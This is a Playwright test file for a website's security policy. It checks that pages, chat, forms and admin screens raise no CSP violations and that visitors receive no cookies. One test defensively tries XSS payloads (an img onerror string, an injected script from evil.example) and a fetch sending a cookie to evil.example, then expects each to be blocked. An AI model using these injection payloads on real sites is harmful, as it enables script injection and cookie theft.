import { expect, type Page } from '@playwright/test'
import { deskPaths } from '#content/desk-paths.ts'
import { canonicalOf, type PageId, paths } from '#content/paths.ts'
import { chatOn, showButtons } from './chat-visitor.ts'
import { test } from './owner.ts'
import { complaints, hydrated } from './reader.ts'

// Movement is styled by script in places.
test.use({ contextOptions: { reducedMotion: 'no-preference' } })

/** What the browser refused because of a page's policy, and what it complained about. */
async function refusals(page: Page): Promise<string[]> {
  const found = complaints(page)
  await page.exposeFunction('noteRefusal', (text: string) => found.push(text))
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      const { noteRefusal } = window as unknown as { noteRefusal(text: string): void }
      noteRefusal(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sample}`)
    })
  })
  return found
}

/** Everything on a page that opens, opened, and its end seen. */
async function openEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true
    scrollTo(0, document.body.scrollHeight)
  })
}

test('no page breaks its policy, loaded or moved to, whatever is opened on it', async ({ page }) => {
  test.slow()
  const found = await refusals(page)
  for (const address of [...Object.values(paths), '/find-booking', '/design', '/thanks/message']) {
    await page.goto(address)
    await hydrated(page)
    await openEverything(page)
  }
  // By the router, which builds each page in the browser.
  await page.goto('/')
  await hydrated(page)
  for (const id of Object.keys(paths) as PageId[]) {
    await page.evaluate((path) => {
      history.pushState(null, '', path)
      dispatchEvent(new PopStateEvent('popstate'))
    }, paths[id])
    const original = new URL(paths[canonicalOf[id] ?? id], page.url()).href
    await expect(page.locator('link[rel=canonical]')).toHaveAttribute('href', original)
    await openEverything(page)
  }
  expect(found).toEqual([])
})

test('neither do the chat, forms with mistakes, the brochure, the video and leaving an error page', async ({
  page,
}) => {
  const found = await refusals(page)
  await page.goto('/no-such-page')
  await hydrated(page)
  await page.getByRole('main').getByRole('link').first().click()
  await expect(page).toHaveURL(/\/$/)
  await page.getByRole('button', { name: 'Switch between light and dark' }).click()
  await showButtons(page)
  const chat = chatOn(page)
  await chat.button.click()
  await chat.say('The price of an AI chatbot? I am at meena@school.example')
  await expect(chat.quickActions.first()).toBeVisible()
  await chat.quickActions.filter({ hasText: 'Book Demo' }).click()
  await page.locator('#chat-booking').getByRole('button', { name: 'Book Demo' }).click()
  await page.goto('/contact')
  await hydrated(page)
  await page.locator('#message-form').getByRole('button', { name: 'Send' }).click()
  await page.goto('/brochure')
  await hydrated(page)
  for (const button of await page.getByRole('main').getByRole('button').all()) await button.click()
  // The page that is not there, and forms with mistakes, are refused by the server.
  expect(found.filter((text) => !/404 \(Not Found\)|422 \(Unprocessable/.test(text))).toEqual([])
})

test('no screen of the desk breaks its policy', async ({ desk }) => {
  const found = await refusals(desk)
  const screens = ['', '/leads', '/leads/suspicious', '/bookings', '/testimonials', '/payments', '/mail']
  for (const screen of [...screens, '/analytics', '/privacy', '/account']) {
    await desk.goto(`${deskPaths.today}${screen}`)
    await expect(desk.getByRole('heading', { level: 1 })).toBeVisible()
    await openEverything(desk)
  }
  expect(found).toEqual([])
})

test('what is injected into a page does not become markup, does not run and calls nobody', async ({
  page,
}) => {
  await page.goto('/')
  await hydrated(page)
  const outcome = await page.evaluate(async () => {
    const tried: Record<string, string> = {}
    const attempt = async (name: string, work: () => unknown) => {
      try {
        await work()
        tried[name] = 'done'
      } catch (error) {
        tried[name] = (error as Error).name
      }
    }
    const add = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties))
    await attempt('markup', () => {
      document.createElement('div').innerHTML = '<img src=x onerror="document.title=1">'
    })
    await attempt('a script’s text', () => add('script', { textContent: 'document.title="run"' }))
    await attempt('a script from elsewhere', () => add('script', { src: 'https://evil.example/x.js' }))
    await attempt('a handler', () => {
      const image = document.createElement('img')
      image.setAttribute('onerror', 'document.title="run"')
    })
    await attempt('a document', () => new DOMParser().parseFromString('<p>', 'text/html'))
    await attempt('a call elsewhere', () => fetch('https://evil.example/?cookie=1'))
    return { tried, title: document.title }
  })
  expect(outcome.title).not.toBe('run')
  expect(outcome.tried).toEqual({
    markup: 'TypeError',
    'a script’s text': 'TypeError',
    'a script from elsewhere': 'TypeError',
    'a handler': 'TypeError',
    'a document': 'TypeError',
    'a call elsewhere': 'TypeError',
  })
})

test('a visitor who reads, asks and writes gets no cookie, and leaves nothing behind but a theme', async ({
  page,
  context,
}) => {
  await page.goto('/')
  await hydrated(page)
  await page.getByRole('button', { name: 'Switch between light and dark' }).click()
  await page.goto('/contact')
  await hydrated(page)
  await page.locator('#message-form-name').fill('Meena')
  await page.goto('/pricing')
  expect(await context.cookies()).toEqual([])
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual(['theme'])
})
